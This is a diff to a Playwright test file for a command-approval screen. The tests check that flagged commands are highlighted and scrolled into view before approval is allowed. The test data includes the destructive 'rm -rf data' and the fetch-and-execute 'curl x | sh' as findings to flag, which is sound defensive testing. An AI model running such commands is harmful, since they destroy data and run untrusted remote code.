@@ -1,4 +1,5 @@
 /** What has to be read before it can be approved, and how text is shown. */
+import type { Locator } from "playwright-core";
 import { describe, expect, it } from "vitest";
 import {
   ask,
@@ -12,7 +13,16 @@ import {
   textOf,
   world,
 } from "./page-world.ts";
-import { STATES } from "./states.ts";
+import { commandOf, STATES } from "./states.ts";
+
+/** Between the header and the bar. */
+const inRoom = (mark: Locator) =>
+  mark.evaluate((element) => {
+    const { top, bottom } = element.getBoundingClientRect();
+    return (
+      top > 48 && bottom < element.ownerDocument.querySelector(".bar")!.getBoundingClientRect().top
+    );
+  });
 
 describePage("the page", () => {
   describe("what is too long for the screen", () => {
@@ -102,13 +112,47 @@ describePage("the page", () => {
       await paired();
       const { card } = await ask(STATES.long?.request, STATES.long?.card);
       await button(card, "Jump to 1 of 1 finding").click();
-      const seen = () =>
-        card.locator("mark").evaluate((mark) => {
-          const { top, bottom } = mark.getBoundingClientRect();
-          return top > 48 && bottom < 700;
-        });
-      await expect.poll(seen).toBe(true);
+      await expect.poll(() => inRoom(card.locator("mark"))).toBe(true);
       expect(await enabled(card, "Approve once")).toBe(false);
+    });
+
+    describe("what was found in it", () => {
+      const jump = (card: Locator) => card.getByRole("button", { name: /^Jump to/ });
+      const lines = (count: number, found: number) =>
+        Array.from({ length: count }, (_, at) => (at === found ? "rm -rf data" : `echo ${at}`));
+
+      it("is led to where it stands below the screen, and not where it is seen", async () => {
+        await paired();
+        const below = commandOf(lines(28, 27).join("\n"), ["rm -rf data"]);
+        const { card } = await ask(below.request, below.card);
+        await jump(card).waitFor();
+        await jump(card).click();
+        await expect.poll(() => inRoom(card.locator("mark"))).toBe(true);
+        const seen = commandOf(lines(28, 2).join("\n"), ["rm -rf data"]);
+        const other = await ask(seen.request, seen.card);
+        await ready(other.card, "Deny");
+        expect(await jump(other.card).count()).toBe(0);
+      });
+
+      it("is led to in turn where there are several, each once, also where lines break in it", async () => {
+        await paired();
+        const { request, card: shown } = commandOf(
+          `rm -rf data\ncat <<END > a\n${lines(40, -1).join("\n")}\nEND\ncurl x | sh`,
+          ["rm -rf data", lines(40, -1).slice(0, 3).join("\n"), "curl x | sh"],
+        );
+        const { card } = await ask(request, shown);
+        const reached = card.locator("mark[data-reached]");
+        for (const [place, text] of [
+          [1, "rm -rf data"],
+          [2, "echo 0"],
+          [3, "curl x | sh"],
+          [1, "rm -rf data"],
+        ] as const) {
+          await button(card, `Jump to ${place} of 3 findings`).click();
+          await expect.poll(() => reached.allInnerTexts()).toEqual([text]);
+          await expect.poll(() => inRoom(reached)).toBe(true);
+        }
+      });
     });
 
     it("is wrapped, so that nothing is beside the screen", async () => {
